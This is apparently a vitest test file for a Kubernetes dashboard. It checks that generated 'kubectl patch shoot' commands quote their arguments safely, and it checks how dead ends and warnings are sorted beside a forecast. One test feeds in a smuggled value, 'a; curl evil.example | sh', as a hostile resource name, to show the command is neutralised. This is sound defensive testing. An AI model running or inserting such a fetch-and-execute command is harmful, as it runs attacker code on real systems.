import { expect, test } from 'vitest'
import { rowOf, STEPS } from '@/components/outlook/testdata/answers'
import type { ShootAnswer } from '@/lib/contract/clusters'
import type { DeadEndBody, ForecastStepBody } from '@/lib/contract/steps'
import { adviceCommand, obstacles } from './side'

const shoot = { namespace: 'garden-payments', name: 'checkout-prod' }
const advice = { kind: 'do' as const, title: '', text: '' }

test.each([
  [
    { patch: '{"spec":{}}', patchType: 'merge' as const },
    `kubectl -n garden-payments patch shoot checkout-prod --type merge -p '{"spec":{}}'`,
  ],
  [
    { patch: `[{"op":"it's"}]`, patchType: 'json' as const },
    `kubectl -n garden-payments patch shoot checkout-prod --type json -p '[{"op":"it'\\''s"}]'`,
  ],
  [{ patch: null, patchType: null }, null],
])('%o', (patch, command) => {
  expect(adviceCommand({ ...advice, ...patch }, shoot)).toBe(command)
})

test('a name that a shell would run is one word of the command', () => {
  const hostile = { namespace: '--server=https://evil.example', name: 'a; curl evil.example | sh\n' }
  expect(adviceCommand({ ...advice, patch: '{}', patchType: 'merge' }, hostile)).toBe(
    `kubectl -n server=https://evil.example patch shoot 'a; curl evil.example | sh' --type merge -p '{}'`,
  )
})

const end: DeadEndBody = {
  kind: 'minor-gap',
  component: 'controlPlane',
  pool: null,
  image: null,
  version: '1.31.14',
  to: null,
  rule: null,
  began: null,
  since: '2026-11-21T21:00:00Z',
  until: null,
  text: 'the profile lists no version of 1.32',
}
const april = STEPS[3] as ForecastStepBody
const line = (severity: 'info' | 'warning' | 'bad', text: string) => ({ severity, text, reported: false })
const told = (given: Pick<ShootAnswer, 'constraints' | 'stuck'>, steps: ShootAnswer['steps'] = []) => {
  const { lead, side } = obstacles({ ...given, steps, shoot: { nextForced: null } })
  return [lead.map(({ text }) => text), side.map(({ text }) => text)]
}

test('dead ends and what is bad stand below the headline', () => {
  const constraints = [line('bad', 'its profile is not known'), line('info', 'hibernated')]
  expect(told({ constraints, stuck: { failing: null, deadEnds: [end] } })).toEqual([
    [end.text, 'its profile is not known'],
    ['hibernated'],
  ])
})

test('what the headline says whole is not said again below it', () => {
  const change = april.changes[0]
  const gone = { ...end, kind: 'image-end-of-life' as const, image: change?.image ?? null, version: change?.from ?? '' }
  const given = { constraints: [], stuck: { failing: null, deadEnds: [gone] } }
  expect(told(given, [april])).toEqual([[], []])
  expect(told(given, [{ ...april, denied: true }])).toEqual([[end.text], []])
  expect(told({ ...given, stuck: { failing: null, deadEnds: [{ ...gone, version: '1' }] } }, [april])[0]).toEqual([
    end.text,
  ])
})

test('a refusal whose cause the headline names is not told again', () => {
  const step = { ...april, denied: true, changes: [] }
  const refused = {
    ...end,
    kind: 'refused' as const,
    rule: 'image-kubelet',
    image: 'os',
    pool: 'a',
    since: step.window.begin,
  }
  const lead = (cause: string | null, ...deadEnds: DeadEndBody[]) => {
    const nextForced = cause === null ? null : { ...rowOf({}).nextForced, window: step.window, cause }
    const given = { constraints: [], steps: [step], stuck: { failing: null, deadEnds } }
    return obstacles({ ...given, shoot: { nextForced: nextForced as ShootAnswer['shoot']['nextForced'] } }).lead.length
  }
  expect(lead('image-kubelet < 1.33', refused, { ...refused, pool: 'b', text: 'b' })).toBe(0)
  expect(lead('image-kubelet < 1.33', refused, { ...refused, image: 'other', text: 'b' })).toBe(2)
  expect(lead('image-kubelet < 1.33', { ...refused, since: '2026-11-20T21:00:00Z' })).toBe(1)
  expect(lead('api-ends', { ...refused, rule: 'api-ends' })).toBe(1)
  expect(lead(null, refused)).toBe(1)
})

test('more warnings than are read go beside the forecast, never what is bad', () => {
  const warnings = ['a', 'b', 'c', 'd'].map((text) => line('warning', text))
  expect(told({ constraints: warnings, stuck: { failing: null, deadEnds: [end] } })).toEqual([
    [end.text, 'a', 'b'],
    ['c', 'd'],
  ])
  const four = [1, 2, 3, 4].map((n) => ({ ...end, text: `end ${n}` }))
  expect(told({ constraints: warnings, stuck: { failing: null, deadEnds: four } })[0]).toHaveLength(4)
})
